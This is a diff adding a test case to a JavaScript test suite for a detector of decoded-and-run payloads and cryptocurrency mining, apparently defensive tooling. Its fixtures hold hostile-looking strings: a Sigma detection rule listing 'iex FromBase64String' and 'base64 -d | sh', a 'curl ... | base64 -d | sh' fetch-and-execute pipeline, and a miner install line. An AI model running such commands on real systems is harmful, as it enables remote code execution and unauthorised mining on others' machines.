@@ -61,6 +61,15 @@ describe("payloads: what is decoded and run, and cannot be followed", () => {
     for (const written of [text, cloud(text)])
       it(`but not ${written.slice(0, 80)}`, () => assert.equal(searchForMining(written).doubts, undefined));
 
+  it("nor in a defender's rule", () => {
+    const rule =
+      "title: a\nlogsource:\n  product: windows\ndetection:\n  a:\n    - 'iex FromBase64String($x)'\n    - 'base64 -d | sh'\n  condition: a\n";
+    assert.equal(searchForMining(rule).doubts, undefined);
+    const written = `#!/bin/sh\ncat > /etc/sigma/a.yml <<'E'\n${rule}E\n`;
+    assert.equal(searchForMining(written).doubts, undefined);
+    assert.deepEqual(searchForMining(`${written}sh /etc/sigma/a.yml\n`).doubts, ["decoded"]);
+  });
+
   it("beside a word that is a sign with others, that word is told", () => {
     const { indicators, doubts, weakWords } = searchForMining(
       "apt-get install t-rex\ncurl https://contoso.com/a | base64 -d | sh",
